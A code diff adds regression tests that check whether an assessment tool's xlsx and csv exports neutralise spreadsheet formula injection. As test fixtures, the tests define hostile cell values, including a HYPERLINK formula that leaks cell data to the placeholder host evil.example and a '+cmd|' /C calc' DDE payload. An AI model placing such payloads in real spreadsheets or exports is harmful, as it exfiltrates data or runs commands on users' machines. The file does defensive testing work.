@@ -101,3 +101,149 @@ def test_a_link_answering_what_the_site_gives_any_random_path_is_dead(tmp_path):
     records = (tmp_path / "snap" / "records.jsonl").read_text("utf-8")
     assert '"role":"probe"' in records.replace(" ", "")
     assert site_result(p.stdout)["coverage"]["pages_fetched"] == 3  # the probe is no page of the site
+
+
+# ---------------------------------------------------------------------------- #7 formula injection
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
+TAB_EVIL = "\t=1+1"
+
+
+def _live_formulas(path) -> list[str]:
+    """Every cell of the workbook that Excel would evaluate (openpyxl reads a formula as data_type 'f')."""
+    import openpyxl
+
+    wb = openpyxl.load_workbook(path)
+    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip()[:1] in "=+@")]
+
+
+def _texts(path) -> list[str]:
+    import openpyxl
+
+    wb = openpyxl.load_workbook(path)
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+
+
+@pytest.fixture(scope="module")
+def evil_assessment(tmp_path_factory) -> str:
+    """An `ita assess --format json` result for an agency named with a formula."""
+    from conftest import FIXTURES
+
+    d = tmp_path_factory.mktemp("evil")
+    sheet = (FIXTURES / "sheets" / "seed-001-2568.yaml").read_text("utf-8")
+    sheet = sheet.replace("agency: องค์การบริหารส่วนตำบลเชียงพิณ", "agency: " + json_quote(EVIL))
+    (d / "s.yaml").write_text(sheet, encoding="utf-8")
+    p = run_ita("assess", str(d / "s.yaml"), "--format", "json", "-o", str(d / "r.json"))
+    assert p.returncode == 0, p.stderr
+    return str(d / "r.json")
+
+
+def json_quote(text: str) -> str:
+    import json
+
+    return json.dumps(text, ensure_ascii=False)
+
+
+def test_plan_xlsx_keeps_a_formula_agency_as_text_and_reads_it_back(evil_assessment, tmp_path):
+    from ita_rules.plan_read import load_plan
+
+    out = tmp_path / "plan.xlsx"
+    p = run_ita("plan", evil_assessment, "-o", str(out))
+    assert p.returncode == 0, p.stderr
+    assert not _live_formulas(out)
+    assert "'" + EVIL in _texts(out)
+    assert load_plan(out).agency == EVIL  # the guarding quote is not part of the plan
+
+
+def test_progress_xlsx_keeps_formula_text_as_text(evil_assessment, tmp_path):
+    import yaml
+
+    plan = tmp_path / "plan.yaml"
+    assert run_ita("plan", evil_assessment, "-o", str(plan)).returncode == 0
+    data = yaml.safe_load(plan.read_text("utf-8"))
+    data["measures"][0]["results"] = TAB_EVIL
+    data["measures"][0]["owner"] = "@SUM(1+1)"
+    data["measures"][1]["results"] = "-2.5"  # a number written as text stays as it was
+    plan.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    out = tmp_path / "progress.xlsx"
+    p = run_ita("progress", str(plan), "--format", "xlsx", "-o", str(out))
+    assert p.returncode == 0, p.stderr
+    assert not _live_formulas(out)
+    texts = _texts(out)
+    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts and "-2.5" in texts
+
+
+@pytest.fixture(scope="module")
+def evil_check() -> str:
+    """A real check of the demo site (JSON run document), its target, titles and details made hostile."""
+    import json
+
+    from conftest import FIXTURES
+
+    p = run_ita("check", str(FIXTURES / "sites" / "demo"), "--format", "json", timeout=600)
+    assert p.returncode in (0, 1), p.stderr
+    doc = json.loads(p.stdout)
+    res = doc["sites"][0]["result"]
+    res["target"] = EVIL
+    res["items"][0]["title"], res["items"][0]["detail"] = TAB_EVIL, "+cmd|' /C calc'!A0"
+    doc["sites"][0]["site"]["name"] = EVIL
+    return json.dumps(doc, ensure_ascii=False)
+
+
+def _evil_check_doc(evil_check: str) -> dict:
+    import json
+
+    return json.loads(evil_check)
+
+
+def test_export_check_keeps_formula_text_as_text(evil_check, tmp_path):
+    import json
+
+    src, out = tmp_path / "check.json", tmp_path / "r.xlsx"
+    src.write_text(json.dumps(_evil_check_doc(evil_check)["sites"][0]["result"], ensure_ascii=False), "utf-8")
+    p = run_ita("export-check", str(src), "-o", str(out))
+    assert p.returncode == 0, p.stderr
+    assert not _live_formulas(out)
+    assert {"'" + EVIL, "'" + TAB_EVIL} <= set(_texts(out))
+
+
+def test_check_format_xlsx_keeps_formula_text_as_text(evil_check, tmp_path):
+    from ita_rules.ci.run import CiRun
+    from ita_rules.render.formats import CheckReport, write_check
+
+    doc = _evil_check_doc(evil_check)
+    for n in (1, 2):  # one site, then a run of two (a sheet pair per site)
+        run = CiRun.model_validate(dict(doc, sites=doc["sites"] * n))
+        out = tmp_path / f"r{n}.xlsx"
+        write_check("xlsx", CheckReport(run=run, pack=None, repo=tmp_path), str(out))  # type: ignore[arg-type]
+        assert not _live_formulas(out), n
+        assert "'" + EVIL in _texts(out)
+
+
+def test_results_matrix_csv_keeps_formula_text_as_text(evil_check, tmp_path):
+    import csv
+    import json
+
+    from cli.runs import store
+    from ita_rules.ci.site_spec import SiteSpec
+    from ita_rules.results.check import CheckResult
+
+    res = CheckResult.model_validate(_evil_check_doc(evil_check)["sites"][0]["result"])
+    db = tmp_path / "r.sqlite"
+    conn = store.open_db(db)
+    rid = store.start_run(conn, pack_id="ita-2568", pack_version="1", year=2568, lang="th", sites_total=3,
+                          digest="d", target=85.0, indicators={"9": "x"}, settings=json.dumps({}))
+    for name in (EVIL, TAB_EVIL, "-5"):
+        store.store_site(conn, rid, SiteSpec(name=name, target="http://t.test/"), res)
+    store.store_site(conn, rid, SiteSpec(name="ok", target="http://t.test/"), None, error="@SUM(A1)")
+    conn.close()
+    out = tmp_path / "m.csv"
+    p = run_ita("results", "matrix", str(rid), "--db", str(db), "--format", "csv", "-o", str(out))
+    assert p.returncode == 0, p.stderr
+    rows = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
+    cells = [c for row in rows[1:] for c in row]
+    assert not [c for c in cells if c.lstrip()[:1] in ("=", "+", "@") or c[:1] in ("\t", "\r")], cells
+    names = {r[0] for r in rows[1:]}
+    assert {"'" + EVIL, "'" + TAB_EVIL, "-5"} <= names  # a negative number stays a number
+    assert any(c == "'@SUM(A1)" for c in cells)
